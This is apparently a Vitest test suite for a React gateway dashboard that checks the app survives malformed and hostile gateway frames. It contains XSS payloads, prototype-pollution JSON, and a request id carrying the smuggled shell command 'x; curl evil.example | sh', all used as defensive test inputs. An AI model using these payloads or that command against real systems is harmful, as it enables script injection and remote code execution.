import { Component, type ReactNode } from 'react';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { screen, waitFor } from '@testing-library/react';
import { App } from '../app';
import { renderWithGateway } from '../testing/render';
import {
  GatewayReplyError,
  RawReply,
  okFrame,
  installGatewayScenario,
  type RawFrame,
  type Scenario,
} from '../testing/gateway';
import { OPERATOR_SCOPES } from '../session/scopes';
import type { Gateway } from '../session/gateway';

/**
 * A hostile or broken gateway, frame by frame, against the whole app: every page keeps rendering,
 * nothing the gateway sends becomes markup, and every protocol problem is named in the activity log.
 */

/** Markup that would run if any of it were parsed as HTML (no quotes: JSON.stringify leaves it alone). */
const xss = (tag: string) =>
  `<img src=x onerror=globalThis.__pwned=1>${tag}<script>globalThis.__pwned=1</script><svg onload=globalThis.__pwned=1>`;
const INJECTED = 'script:not([src]), img[onerror], [onerror], [onload], iframe, object, embed';

const ALL = [...OPERATOR_SCOPES];
const full: Scenario['connect'] = () => ({ scopes: ALL, auth: { deviceToken: 'dt' } });

type Mock = ReturnType<typeof installGatewayScenario>;
type Case = {
  name: string;
  /** The route to render. */
  path: '/' | '/presence' | '/config' | '/cron' | '/cron?tab=history' | '/devices';
  scenario?: Scenario;
  /** Frames sent once the session is ready. */
  after?: (gw: Mock) => void;
  /** A problem entry that must appear in gw.log. */
  problem?: RegExp;
  /** Gateway text that must be on the page, as text. */
  text?: string;
  /** Other words the page must show (an error panel, a state). */
  see?: RegExp;
  /** The session does not reach ready (handshake cases). */
  noReady?: boolean;
};

const HEADINGS: Record<string, RegExp> = {
  '/': /./, // the Connection state region always has its h1
  '/presence': /^Presence$/,
  '/config': /^Config$/,
  '/cron': /^Cron$/,
  '/devices': /^Devices$/,
};

// --------------------------------------------------------------------------------------------
// Builders of plausible gateway data, with hostile text where pages display it.

const presenceEntry = (over: Record<string, unknown> = {}) => ({
  clientId: 'webchat-ui',
  mode: 'webchat',
  host: 'laptop',
  platform: 'web',
  version: '0.0.1',
  deviceId: 'd'.repeat(64),
  roles: ['operator'],
  scopes: ['operator.read'],
  onlineSince: Date.now() - 60_000,
  ts: Date.now() - 1000,
  reason: 'connect',
  ...over,
});

const cronJob = (over: Record<string, unknown> = {}) => ({
  id: 'job-1',
  name: 'nightly',
  enabled: true,
  createdAtMs: 1,
  updatedAtMs: 1,
  schedule: { kind: 'cron', expr: '*/5 * * * *', tz: 'UTC' },
  sessionTarget: 'main',
  wakeMode: 'now',
  payload: { kind: 'systemEvent', text: 'tick' },
  state: { nextRunAtMs: Date.now() + 60_000 },
  configRevision: 'sha256:r1',
  ...over,
});
const cronList = (jobs: unknown) => ({
  jobs,
  total: Array.isArray(jobs) ? jobs.length : 0,
  offset: 0,
  limit: 200,
  hasMore: false,
  nextOffset: null,
});

const pairedDevice = (over: Record<string, unknown> = {}) => ({
  deviceId: 'c'.repeat(64),
  publicKey: 'pk',
  platform: 'web',
  clientId: 'webchat-ui',
  clientMode: 'webchat',
  role: 'operator',
  roles: ['operator'],
  scopes: ['operator.read'],
  approvedVia: 'owner',
  createdAtMs: 1,
  approvedAtMs: 1,
  lastSeenAtMs: 1,
  lastSeenReason: 'disconnect',
  connected: false,
  tokens: [{ role: 'operator', scopes: ['operator.read'], createdAtMs: 1 }],
  ...over,
});
const pendingRequest = (over: Record<string, unknown> = {}) => ({
  requestId: 'req-1',
  deviceId: 'a'.repeat(64),
  publicKey: 'pk-a',
  platform: 'linux',
  clientId: 'cli',
  clientMode: 'cli',
  role: 'operator',
  roles: ['operator'],
  scopes: ['operator.read'],
  silent: false,
  isRepair: false,
  ts: Date.now() - 1000,
  ...over,
});

/** JSON nested `depth` levels deep, built as text (no recursion anywhere). */
const deep = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
const TWO_MB = 'x'.repeat(2 * 1024 * 1024);

/** A reply that answers with a raw text frame built from the request id. */
const rawText = (build: (id: string) => string) => () => new RawReply((id, send) => send(build(JSON.stringify(id))));
/** A reply that answers with any frames, in order. */
const frames =
  (...build: ((id: string) => RawFrame)[]) =>
  () =>
    new RawReply((id, send) => build.forEach((b) => send(b(id))));

// --------------------------------------------------------------------------------------------
// The table: at least one row per kind of hostile input, on the page that would show it.

const transport: Case[] = [
  { name: 'invalid JSON', path: '/', after: (g) => g.sendRaw('{not json'), problem: /unparseable frame ignored/ },
  {
    name: 'an empty text frame',
    path: '/',
    after: (g) => g.sendRaw(''),
    problem: /unparseable frame ignored \(0 chars/,
  },
  {
    name: 'truncated JSON',
    path: '/',
    after: (g) => g.sendRaw('{"type":"event","event":"tick","payload":{'),
    problem: /unparseable frame/,
  },
  {
    name: 'a binary frame',
    path: '/',
    after: (g) => g.sendRaw(new Uint8Array([1, 2, 3, 0xff]).buffer),
    problem: /binary frame ignored/,
  },
  { name: 'JSON null', path: '/', after: (g) => g.sendRaw('null'), problem: /frame ignored: null, not an object/ },
  {
    name: 'a bare number',
    path: '/',
    after: (g) => g.sendRaw('42'),
    problem: /frame ignored: a number, not an object/,
  },
  {
    name: 'a bare string',
    path: '/',
    after: (g) => g.sendRaw('"hello"'),
    problem: /frame ignored: a string, not an object/,
  },
  {
    name: 'an array of junk',
    path: '/',
    after: (g) => g.sendRaw('[1,"two",null,{"type":"event"}]'),
    problem: /frame ignored: an array, not an object/,
  },
  { name: 'a boolean', path: '/', after: (g) => g.sendRaw('true'), problem: /frame ignored: a boolean/ },
  {
    name: 'an object without a type',
    path: '/',
    after: (g) => g.sendRaw({ event: 'tick', payload: {} }),
    problem: /frame ignored: it has no type/,
  },
  {
    name: 'an unknown frame type',
    path: '/',
    after: (g) => g.sendRaw({ type: 'hello-ok', protocol: 4 }),
    problem: /unknown type "hello-ok"/,
  },
  {
    name: 'a request frame from the server',
    path: '/',
    after: (g) => g.sendRaw({ type: 'req', id: 'x', method: 'node.invoke', params: {} }),
    problem: /unknown type "req"/,
  },
  {
    name: 'an event without a name',
    path: '/',
    after: (g) => g.sendRaw({ type: 'event', payload: {} }),
    problem: /event frame ignored: its name is nothing/,
  },
  {
    name: 'an event named by a number',
    path: '/',
    after: (g) => g.sendRaw({ type: 'event', event: 42, payload: {} }),
    problem: /its name is a number/,
  },
  {
    name: 'an event with a negative seq',
    path: '/',
    after: (g) => g.sendRaw({ type: 'event', event: 'tick', payload: { ts: 1 }, seq: -1 }),
    problem: /"tick" ignored: invalid seq/,
  },
  {
    name: 'an event with a text seq',
    path: '/',
    after: (g) => g.sendRaw({ type: 'event', event: 'tick', payload: { ts: 1 }, seq: '5' }),
    problem: /invalid seq \(a string\)/,
  },
  {
    name: 'a seq gap',
    path: '/',
    after: (g) => {
      g.push('tick', { ts: 1 });
      g.sendRaw({ type: 'event', event: 'tick', payload: { ts: 2 }, seq: 1000 });
    },
    problem: /event seq gap: expected 2, got 1000/,
  },
  {
    name: 'an unknown event name with markup',
    path: '/',
    after: (g) => g.sendRaw({ type: 'event', event: xss('ev'), payload: {} }),
    problem: /unknown event \(\d+ chars\) ignored/,
  },
  {
    name: 'a response without an id',
    path: '/',
    after: (g) => g.sendRaw({ type: 'res', ok: true, payload: {} }),
    problem: /response ignored: it has no request id/,
  },
  {
    name: 'a response with a numeric id',
    path: '/',
    after: (g) => g.sendRaw({ type: 'res', id: 7, ok: true, payload: {} }),
    problem: /no request id/,
  },
  {
    name: 'a response to an unknown id',
    path: '/',
    after: (g) => g.sendRaw(okFrame('1:not-ours', { jobs: [] })),
    problem: /response to unknown request id ignored/,
  },
  {
    name: 'an event nested 100,000 levels deep',
    path: '/',
    after: (g) => g.sendRaw(`{"type":"event","event":"health","payload":${deep(100_000)}}`),
    problem: /"health" ignored: nested deeper than 100 levels/,
  },
  {
    name: 'a 2 MB event',
    path: '/',
    after: (g) => g.sendRaw({ type: 'event', event: 'tick', payload: { ts: 1, junk: TWO_MB } }),
    problem: /large frame: 2\.0 MiB/,
  },
];

const events: Case[] = [
  {
    name: 'a presence event whose payload is null',
    path: '/presence',
    scenario: { replies: { 'system-presence': () => [presenceEntry({ host: 'still-here' })] } },
    after: (g) => g.push('presence', null),
    problem: /invalid payload for event "presence": null/,
    text: 'still-here',
  },
  {
    name: 'a presence event whose payload is text',
    path: '/presence',
    after: (g) => g.push('presence', 'everyone left'),
    problem: /"presence": a string, not an object/,
  },
  {
    name: 'a presence event whose payload is a list',
    path: '/presence',
    after: (g) => g.push('presence', [presenceEntry()]),
    problem: /"presence": an array, not an object/,
  },
  {
    name: 'a presence event whose list is not a list',
    path: '/presence',
    after: (g) => g.push('presence', { presence: 'nobody' }),
    problem: /"presence" is a string, not a list/,
  },
  {
    name: 'a presence event full of markup and junk entries',
    path: '/presence',
    after: (g) =>
      g.push('presence', {
        presence: [
          1,
          null,
          'x',
          presenceEntry({ host: xss('ev-host'), platform: xss('ev-platform'), clientId: xss('ev-client') }),
        ],
      }),
    text: xss('ev-host'),
  },
  {
    name: 'a presence event with a __proto__ key',
    path: '/presence',
    after: (g) =>
      g.sendRaw(
        `{"type":"event","event":"presence","payload":{"__proto__":{"polluted":"yes"},"presence":[{"host":"proto-host","mode":"webchat","clientId":"c","__proto__":{"polluted":"yes"}}]}}`,
      ),
    problem: /dropped a "__proto__" key at payload/,
    text: 'proto-host',
  },
  {
    name: 'a constructor.prototype key',
    path: '/presence',
    after: (g) =>
      g.sendRaw(
        `{"type":"event","event":"presence","payload":{"constructor":{"prototype":{"polluted":"yes"}},"presence":[]}}`,
      ),
    problem: /dropped a "constructor" key at payload/,
  },
  {
    name: 'a cron event whose payload is a number',
    path: '/cron',
    after: (g) => g.push('cron', 7),
    problem: /invalid payload for event "cron": a number/,
  },
  {
    name: 'a config.changed event whose payload is text',
    path: '/config',
    after: (g) => g.push('config.changed', '<b>changed</b>'),
    problem: /"config.changed": a string/,
  },
  {
    name: 'a device.pair.requested event whose payload is null',
    path: '/devices',
    after: (g) => g.push('device.pair.requested', null),
    problem: /"device.pair.requested": null/,
  },
];

const presence: Case[] = [
  {
    name: 'presence entries with markup in every displayed field',
    path: '/presence',
    scenario: {
      replies: {
        'system-presence': () => [
          presenceEntry({
            host: xss('p-host'),
            platform: xss('p-platform'),
            clientId: xss('p-client'),
            version: xss('p-version'),
            mode: xss('p-mode'),
            ip: xss('p-ip'),
          }),
          {
            host: xss('gw-host'),
            version: xss('gw-version'),
            platform: xss('gw-platform'),
            mode: 'gateway',
            reason: 'self',
            text: xss('gw-text'),
            instanceId: 'i1',
            ts: 1,
          },
        ],
      },
    },
    text: xss('gw-text'),
    see: /p-platform/,
  },
  {
    name: 'system-presence answering null',
    path: '/presence',
    scenario: { replies: { 'system-presence': () => null } },
    problem: /invalid result from system-presence/,
    see: /INVALID_RESPONSE/,
  },
  {
    name: 'system-presence answering text',
    path: '/presence',
    scenario: { replies: { 'system-presence': () => xss('p-str') } },
    problem: /answer to system-presence was not usable: result is a string, not a list/,
    see: /INVALID_RESPONSE/,
  },
  {
    name: 'system-presence answering a number',
    path: '/presence',
    scenario: { replies: { 'system-presence': () => 12 } },
    problem: /invalid result from system-presence/,
  },
  {
    name: 'system-presence answering a list of junk',
    path: '/presence',
    scenario: { replies: { 'system-presence': () => [1, 'two', null, [], presenceEntry({ host: xss('junk-host') })] } },
    problem: /dropped result\[0\]: result\[0\] is a number, not an object/,
    text: xss('junk-host'),
  },
  {
    name: 'presence fields of the wrong type',
    path: '/presence',
    scenario: {
      replies: {
        'system-presence': () => [
          presenceEntry({
            host: { html: '<b>x</b>' },
            platform: 5,
            clientId: ['x'],
            roles: 'operator',
            onlineSince: 'yesterday',
          }),
        ],
      },
    },
    problem: /result\[0\]\.host is an object, not text: ignored/,
    see: /unnamed client/,
  },
  {
    name: 'a duplicate response to system-presence',
    path: '/presence',
    scenario: {
      replies: {
        'system-presence': frames(
          (id) => okFrame(id, [presenceEntry({ host: 'first-answer' })]),
          (id) => okFrame(id, [presenceEntry({ host: 'second-answer' })]),
        ),
      },
    },
    problem: /duplicate response to system-presence ignored/,
    text: 'first-answer',
  },
  {
    name: 'a response with ok missing',
    path: '/presence',
    scenario: { replies: { 'system-presence': frames((id) => ({ type: 'res', id, payload: [] })) } },
    problem: /malformed response to system-presence: "ok" is nothing/,
    see: /INVALID_RESPONSE/,
  },
  {
    name: 'an error with markup in its message',
    path: '/presence',
    scenario: {
      replies: { 'system-presence': () => new GatewayReplyError({ code: 'UNAVAILABLE', message: xss('err-msg') }) },
    },
    text: xss('err-msg'),
  },
];

const config: Case[] = [
  {
    name: 'config keys and values with markup',
    path: '/config',
    scenario: {
      replies: {
        'config.get': () => ({
          path: xss('cfg-path'),
          hash: 'h1',
          exists: true,
          valid: true,
          parsed: {
            [xss('cfg-key')]: xss('cfg-value'),
            gateway: { [xss('cfg-nested-key')]: xss('cfg-nested') },
            constructor: 'plain text is fine',
            toString: 42,
          },
          issues: [{ path: xss('issue-path'), message: xss('issue-msg') }, xss('issue-str'), 7, null],
          warnings: [{ message: { nested: true } }],
        }),
      },
    },
    text: xss('cfg-value'),
    see: /issue-msg/,
  },
  {
    name: 'config.get answering null',
    path: '/config',
    scenario: { replies: { 'config.get': () => null } },
    problem: /invalid result from config.get/,
    see: /INVALID_RESPONSE/,
  },
  {
    name: 'config.get answering a list',
    path: '/config',
    scenario: { replies: { 'config.get': () => [1, 2] } },
    problem: /answer to config.get was not usable: result is an array, not an object/,
  },
  {
    name: 'config.get fields of the wrong type',
    path: '/config',
    scenario: {
      replies: {
        'config.get': () => ({
          path: { a: 1 },
          hash: 5,
          exists: 'yes',
          includedPaths: 'a',
          issues: 'none',
          parsed: { ok: 1 },
        }),
      },
    },
    problem: /result\.path is an object, not text: ignored/,
    see: /not reported/,
  },
  {
    name: 'config nested 100,000 levels deep',
    path: '/config',
    scenario: {
      replies: {
        'config.get': rawText((id) => `{"type":"res","id":${id},"ok":true,"payload":{"parsed":${deep(100_000)}}}`),
      },
    },
    problem: /response to config.get refused: nested deeper than 100 levels/,
    see: /INVALID_RESPONSE/,
  },
  {
    name: 'config with __proto__ keys',
    path: '/config',
    scenario: {
      replies: {
        'config.get': rawText(
          (id) =>
            `{"type":"res","id":${id},"ok":true,"payload":{"parsed":{"__proto__":{"polluted":"yes"},"safe":"proto-safe"}}}`,
        ),
      },
    },
    problem: /dropped a "__proto__" key at payload\.parsed/,
    text: 'proto-safe',
  },
  {
    name: 'a 2 MB config value',
    path: '/config',
    scenario: { replies: { 'config.get': () => ({ parsed: { big: TWO_MB, marker: 'big-config-marker' } }) } },
    problem: /large frame: 2\.0 MiB/,
    text: 'big-config-marker',
  },
  {
    name: 'an error whose code and message are not text',
    path: '/config',
    scenario: {
      replies: {
        'config.get': frames((id) => ({
          type: 'res',
          id,
          ok: false,
          error: { code: 500, message: { html: '<b>no</b>' } },
        })),
      },
    },
    problem: /malformed error in the response to config.get/,
    see: /INVALID_RESPONSE: The gateway refused config.get with a malformed error/,
  },
];

const cron: Case[] = [
  {
    name: 'cron jobs with markup in names, descriptions, expressions and targets',
    path: '/cron',
    scenario: {
      replies: {
        'cron.list': () =>
          cronList([
            cronJob({
              name: xss('job-name'),
              description: xss('job-desc'),
              schedule: { kind: 'cron', expr: xss('job-expr'), tz: xss('job-tz') },
              sessionTarget: xss('job-target'),
              agentId: xss('job-agent'),
            }),
            cronJob({
              id: 'job-2',
              name: 'two',
              displayName: xss('job-display'),
              schedule: { kind: xss('job-kind') },
              payload: { kind: xss('payload-kind') },
            }),
          ]),
        'cron.status': () => ({ enabled: true, jobs: 2, storage: xss('cron-storage') }),
      },
    },
    text: xss('job-name'),
    see: /job-expr/,
  },
  {
    name: 'cron.list answering text',
    path: '/cron',
    scenario: { replies: { 'cron.list': () => 'jobs' } },
    problem: /invalid result from cron.list/,
    see: /INVALID_RESPONSE/,
  },
  {
    name: 'cron.list whose jobs are not a list',
    path: '/cron',
    scenario: { replies: { 'cron.list': () => ({ jobs: { 0: cronJob() }, total: 1 }) } },
    problem: /result\.jobs is an object, not a list/,
  },
  {
    name: 'cron.list with junk jobs among good ones',
    path: '/cron',
    scenario: {
      replies: {
        'cron.list': () => cronList([null, 5, 'job', { id: 7 }, cronJob({ id: 'ok-job', name: xss('survivor') })]),
      },
    },
    problem: /dropped result\.jobs\[3\]: result\.jobs\[3\]\.id is not a valid job id/,
    text: xss('survivor'),
  },
  {
    name: 'a cron job whose name is an object',
    path: '/cron',
    scenario: {
      replies: { 'cron.list': () => cronList([cronJob({ name: { first: 'a' }, displayName: 'named-by-display' })]) },
    },
    problem: /result\.jobs\[0\]\.name is an object, not text: ignored/,
    text: 'named-by-display',
  },
  {
    name: 'a cron schedule without its expression',
    path: '/cron',
    scenario: {
      replies: {
        'cron.list': () => cronList([cronJob({ schedule: { kind: 'cron' } }), cronJob({ id: 'j2', name: 'kept-job' })]),
      },
    },
    problem: /dropped result\.jobs\[0\]: result\.jobs\[0\]\.schedule\.expr is missing/,
    text: 'kept-job',
  },
  {
    name: 'cron job state of the wrong types',
    path: '/cron',
    scenario: {
      replies: {
        'cron.list': () =>
          cronList([
            cronJob({
              name: 'state-job',
              state: {
                nextRunAtMs: 'soon',
                lastError: { x: 1 },
                consecutiveErrors: '3',
                lastDiagnostics: { entries: 'none' },
              },
            }),
          ]),
      },
    },
    problem: /result\.jobs\[0\]\.state\.nextRunAtMs is a string, not a number: ignored/,
    text: 'state-job',
  },
  {
    name: 'cron answers out of order',
    path: '/cron',
    scenario: {
      replies: {
        'cron.status': () =>
          new RawReply((id, send) =>
            setTimeout(() => send(okFrame(id, { enabled: true, jobs: 1, storage: 'late-status' })), 60),
          ),
        'cron.list': () => cronList([cronJob({ name: 'early-list' })]),
      },
    },
    text: 'late-status',
    see: /early-list/,
  },
  {
    name: 'cron.status answering text',
    path: '/cron',
    scenario: { replies: { 'cron.status': () => 'on' } },
    problem: /invalid result from cron.status/,
    see: /Could not read the scheduler status/,
  },
  {
    name: 'run history with markup in summaries and errors',
    path: '/cron?tab=history',
    scenario: {
      replies: {
        'cron.runs': () => ({
          entries: [
            {
              ts: 1,
              jobId: 'job-1',
              jobName: xss('run-job'),
              action: 'finished',
              status: 'error',
              error: xss('run-error'),
              summary: xss('run-summary'),
              runAtMs: 1,
              durationMs: 5,
            },
            { ts: 2, jobId: 9, action: 'finished' },
          ],
          total: 2,
          offset: 0,
          limit: 50,
          hasMore: false,
          nextOffset: null,
        }),
      },
    },
    problem: /dropped result\.entries\[1\]/,
    text: xss('run-error'),
  },
  {
    name: 'cron.runs whose entries are not a list',
    path: '/cron?tab=history',
    scenario: { replies: { 'cron.runs': () => ({ entries: 'none' }) } },
    problem: /invalid result from cron.runs/,
    see: /INVALID_RESPONSE/,
  },
];

const devices: Case[] = [
  {
    name: 'devices with markup in labels, platforms and client ids',
    path: '/devices',
    scenario: {
      replies: {
        'device.pair.list': () => ({
          pending: [pendingRequest({ clientId: xss('req-client'), platform: xss('req-platform') })],
          paired: [
            pairedDevice({
              operatorLabel: xss('dev-label'),
              platform: xss('dev-platform'),
              clientId: xss('dev-client'),
            }),
          ],
        }),
      },
    },
    text: xss('dev-label'),
    see: /req-platform/,
  },
  {
    name: 'device.pair.list with lists that are not lists',
    path: '/devices',
    scenario: { replies: { 'device.pair.list': () => ({ pending: 'none', paired: 5 }) } },
    problem: /result\.pending is a string, not a list: ignored/,
  },
  {
    name: 'a pending request whose id is a shell command',
    path: '/devices',
    scenario: {
      replies: {
        'device.pair.list': () => ({
          pending: [pendingRequest({ requestId: 'x; curl evil.example | sh', clientId: 'evil-client' })],
          paired: [pairedDevice({ operatorLabel: 'good-device' })],
        }),
      },
    },
    problem: /dropped result\.pending\[0\]: result\.pending\[0\]\.requestId is not a valid request id/,
    text: 'good-device',
  },
  {
    name: 'device.pair.list answering null',
    path: '/devices',
    scenario: { replies: { 'device.pair.list': () => null } },
    problem: /invalid result from device.pair.list/,
    see: /INVALID_RESPONSE/,
  },
];

const handshake: Case[] = [
  {
    name: 'a hello that is null',
    path: '/',
    scenario: { hello: () => null },
    problem: /hello refused: The gateway answered connect with null/,
    see: /answered connect with null/,
    noReady: true,
  },
  {
    name: 'a hello that is text',
    path: '/',
    scenario: { hello: () => xss('hello-str') },
    problem: /hello refused/,
    noReady: true,
  },
  {
    name: 'a hello without a protocol',
    path: '/',
    scenario: { hello: (h) => ({ ...h, protocol: 'four' }) },
    problem: /hello without a protocol number/,
    noReady: true,
  },
  {
    name: 'a hello picking an unsupported protocol',
    path: '/',
    scenario: { hello: (h) => ({ ...h, protocol: 9, server: { version: '2031.1.1' } }) },
    problem: /protocol mismatch: gateway version 2031.1.1 chose protocol 9/,
    see: /clawscope supports protocols 3–4/,
    noReady: true,
  },
  {
    name: 'a server version with markup',
    path: '/',
    scenario: { serverVersion: xss('server-version') },
    text: xss('server-version'),
  },
  {
    name: 'a hello with junk auth and server blocks',
    path: '/',
    scenario: {
      hello: (h) => ({
        ...h,
        server: 'x',
        snapshot: null,
        policy: [],
        auth: { scopes: [1, { a: 1 }, 'operator.read', null], method: 5, deviceToken: {} },
      }),
    },
    see: /Connected, but/,
  },
  {
    name: 'a connect error with markup in its message',
    path: '/',
    scenario: {
      connect: () => ({
        error: { code: 'INVALID_REQUEST', message: xss('connect-err'), details: { code: xss('detail') } },
      }),
    },
    text: xss('connect-err'),
    noReady: true,
  },
  {
    name: 'a connect error that is malformed',
    path: '/',
    scenario: {
      connect: () =>
        new RawReply((id, send) =>
          send({ type: 'res', id, ok: false, error: { code: ['x'], message: 5, retryAfterMs: -1 } }),
        ),
    },
    problem: /malformed error in the response to connect/,
    see: /INVALID_RESPONSE/,
    noReady: true,
  },
  {
    name: 'a pairing request id that is a shell command',
    path: '/',
    scenario: {
      connect: () => ({
        error: {
          code: 'NOT_PAIRED',
          message: 'pairing required',
          details: {
            code: 'PAIRING_REQUIRED',
            reason: 'not-paired',
            requestId: 'x; curl evil.example | sh',
            recommendedNextStep: 'wait_then_retry',
          },
        },
      }),
    },
    see: /openclaw devices list/,
    noReady: true,
  },
  {
    name: 'a duplicate hello',
    path: '/',
    scenario: {
      connect: () =>
        new RawReply((id, send) =>
          [1, 2].forEach(() =>
            send(
              okFrame(id, {
                type: 'hello-ok',
                protocol: 4,
                server: { version: 'dup' },
                auth: { scopes: ALL, role: 'operator', method: 'token' },
              }),
            ),
          ),
        ),
    },
    problem: /duplicate response to connect ignored/,
    see: /Connected with 8 scopes/,
  },
  {
    name: 'a close reason with markup',
    path: '/',
    after: (g) => g.closeAll(4000, xss('bye')),
    text: xss('bye'),
  },
  {
    name: 'a challenge without a nonce',
    path: '/',
    scenario: { challenge: { type: 'event', event: 'connect.challenge', payload: { nonce: 7, ts: 'now' } } },
    problem: /connect: gateway connect challenge missing nonce/,
    noReady: true,
  },
  {
    name: 'a challenge that is not JSON',
    path: '/',
    scenario: { challenge: '<html>' },
    problem: /unparseable frame ignored/,
    noReady: true,
  },
];

const CASES: Case[] = [...transport, ...events, ...presence, ...config, ...cron, ...devices, ...handshake];

// --------------------------------------------------------------------------------------------

/** Catches render errors: a crash fails the case instead of blanking the app silently. */
class Boundary extends Component<{ errors: unknown[]; children: ReactNode }, { crashed: boolean }> {
  state = { crashed: false };
  static getDerivedStateFromError() {
    return { crashed: true };
  }
  componentDidCatch(error: unknown) {
    this.props.errors.push(error);
  }
  render() {
    return this.state.crashed ? <p>crashed</p> : this.props.children;
  }
}

const problems = (gw: Gateway) =>
  gw.log
    .entries()
    .filter((e) => e.kind === 'problem')
    .map((e) => (e as { message: string }).message)
    .join('\n');

let uncaught: unknown[] = [];
const onError = (e: ErrorEvent) => uncaught.push(e.error ?? e.message);
const onRejection = (e: PromiseRejectionEvent) => uncaught.push(e.reason);

beforeEach(() => {
  uncaught = [];
  window.addEventListener('error', onError);
  window.addEventListener('unhandledrejection', onRejection);
});
afterEach(() => {
  window.removeEventListener('error', onError);
  window.removeEventListener('unhandledrejection', onRejection);
  delete (globalThis as { __pwned?: unknown }).__pwned;
});

function expectSafe(errors: unknown[]) {
  expect(errors).toEqual([]);
  expect(uncaught).toEqual([]);
  expect(document.querySelector(INJECTED)).toBeNull();
  expect((globalThis as { __pwned?: unknown }).__pwned).toBeUndefined();
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
}

describe('hostile and broken frames', () => {
  it('has at least 50 cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(50);
  });

  it.each(CASES)('$name ($path)', async (c) => {
    window.history.replaceState(null, '', c.path);
    const mock = installGatewayScenario({ connect: full, ...c.scenario });
    const errors: unknown[] = [];
    const { gateway, store } = renderWithGateway(
      <Boundary errors={errors}>
        <App />
      </Boundary>,
    );
    if (!c.noReady) await waitFor(() => expect(store.getState().status).toBe('ready'));
    if (c.after) c.after(mock);
    if (c.problem) await waitFor(() => expect(problems(gateway)).toMatch(c.problem!));
    // Production query defaults: a transient failure (UNAVAILABLE) is retried once, about 1 s later.
    if (c.text) await waitFor(() => expect(document.body.textContent).toContain(c.text), { timeout: 4000 });
    if (c.see) await waitFor(() => expect(document.body.textContent).toMatch(c.see!));

    // Nothing crashed (no caught render error, no uncaught error, the page still has its heading),
    // nothing became markup, nothing ran, nothing was polluted.
    expectSafe(errors);
    if (c.path === '/')
      expect(screen.getByRole('region', { name: 'Connection state' }).querySelector('h1')).toBeTruthy();
    // Pages load on demand, so their heading may arrive a moment later.
    else expect(await screen.findByRole('heading', { level: 1, name: HEADINGS[c.path.split('?')[0]!] })).toBeTruthy();
  });

  it('one hostile gateway, every page in turn through the router', async () => {
    window.history.replaceState(null, '', '/');
    installGatewayScenario({
      connect: full,
      serverVersion: xss('tour-version'),
      replies: {
        'system-presence': () => [presenceEntry({ host: xss('tour-host') })],
        'config.get': () => ({ path: '/c.json', parsed: { [xss('tour-key')]: xss('tour-value') } }),
        'cron.list': () => cronList([cronJob({ name: xss('tour-job') })]),
        'device.pair.list': () => ({ pending: [], paired: [pairedDevice({ operatorLabel: xss('tour-device') })] }),
      },
    });
    const errors: unknown[] = [];
    renderWithGateway(
      <Boundary errors={errors}>
        <App />
      </Boundary>,
    );
    const stops: [string, string][] = [
      ['/', 'tour-version'],
      ['/presence', 'tour-host'],
      ['/config', 'tour-value'],
      ['/cron', 'tour-job'],
      ['/devices', 'tour-device'],
      ['/', 'tour-version'],
    ];
    for (const [path, tag] of stops) {
      window.history.pushState(null, '', path);
      window.dispatchEvent(new PopStateEvent('popstate'));
      await waitFor(() => expect(document.body.textContent).toContain(xss(tag)));
      expectSafe(errors);
    }
  });
});
